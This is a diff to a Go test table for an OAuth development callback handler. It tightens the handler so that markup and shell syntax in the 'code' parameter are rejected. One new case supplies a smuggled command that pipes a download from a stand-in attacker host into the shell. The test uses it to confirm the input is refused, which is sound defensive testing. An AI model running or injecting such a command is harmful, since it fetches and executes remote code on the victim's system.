@@ -27,7 +27,8 @@ func TestDevCallback(t *testing.T) {
 		{"an error", "/callback?error=access_denied&error_description=the+user+said+no&state=xyz", 400,
 			[]string{"did not complete: <code>access_denied</code>: the user said no"}, []string{`id="next"`}},
 		{"nothing", "/callback", 400, []string{"this request carries none"}, []string{`id="next"`}},
-		{"markup in the code", "/callback?code=%3Cscript%3E", 200, []string{"CODE=&lt;script&gt;"}, []string{"<script>"}},
+		{"markup in the code", "/callback?code=%3Cscript%3E", 400, []string{"this request carries none"}, []string{"<script>", "script&gt;", `id="next"`}},
+		{"shell syntax in the code", "/callback?code=x;curl+evil.example|sh", 400, []string{"this request carries none"}, []string{"evil", `id="next"`}},
 		{"the app beside it", "/", 200, []string{"the app"}, nil},
 	}
 	for _, tt := range tests {
